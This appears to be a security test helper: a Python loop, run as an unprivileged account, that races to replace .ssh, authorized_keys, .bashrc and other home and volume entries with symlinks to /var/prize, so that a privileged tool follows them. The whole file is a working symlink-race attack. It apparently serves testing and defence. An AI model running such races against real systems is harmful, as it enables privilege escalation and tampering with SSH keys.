"""Runs in a node as the account: replaces entries of its home and its volume with links to the outside."""

import os
import shutil
import time

HOME, VOLUME = "/home/bai", "/vfroot/local"
PRIZE = "/var/prize"
# Long enough for plan, run and undo; the test ends it earlier.
END = time.monotonic() + 300


def swap(path: str, target: str) -> None:
    """Quickly and repeatedly move the original away, put a link in its place, and move the original back."""
    aside = f"{path}.aside"
    try:
        if os.path.islink(path):
            os.unlink(path)
            if os.path.lexists(aside):
                os.rename(aside, path)
        else:
            if os.path.lexists(aside):
                shutil.rmtree(aside) if os.path.isdir(aside) else os.unlink(aside)
            if os.path.lexists(path):
                os.rename(path, aside)
            os.symlink(target, path)
    except OSError:
        return  # the wizard was quicker this time; the next turn tries again


while time.monotonic() < END:
    swap(f"{HOME}/.ssh", PRIZE)
    swap(f"{HOME}/.ssh/authorized_keys", f"{PRIZE}/authorized_keys")
    swap(f"{HOME}/.bashrc", f"{PRIZE}/file")
    swap(f"{HOME}/manager", PRIZE)
    swap(f"{VOLUME}/version.txt", f"{PRIZE}/file")
